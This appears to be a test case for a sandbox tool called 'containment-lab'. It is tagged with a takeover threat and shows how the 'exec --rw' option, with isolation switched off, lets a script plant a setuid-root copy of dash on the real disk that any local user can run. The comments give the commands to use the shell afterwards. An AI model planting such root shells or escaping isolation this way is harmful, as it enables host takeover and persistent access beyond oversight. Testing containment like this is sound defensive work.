# lab:title: exec --rw: a setuid shell in the current folder, on the real disk
# lab:threat: takeover
# lab:layer: isolation
# lab:consequence: test
# Not a `run` snippet: the command for `containment-lab exec --rw`. The range
# clones the current folder before it makes the host view read-only and
# nosuid, and with --rw puts it back as it was: writable AND suid-honouring.
# A root lab with Isolation off maps uid 0 to itself, so this is a real
# setuid-root binary that any local user can run, during and after the run:
#   cd /opt/proj && containment-lab exec --off isolation --rw -- python3 exec_rw_setuid.py
#   setpriv --reuid=1234 --regid=1234 --clear-groups /opt/proj/rootsh -p -c id
# (/bin/dash: RLIMIT_FSIZE of Resource-limits is 1M, bash is larger)
import os, shutil
shutil.copy('/bin/dash', 'rootsh')
os.chmod('rootsh', 0o4755)
st = os.stat('rootsh')
print('planted', os.path.abspath('rootsh'), oct(st.st_mode), 'uid', st.st_uid)
for l in open('/proc/self/mountinfo'):
    if ' ' + os.getcwd() + ' ' in l:
        print('mount:', l.strip())
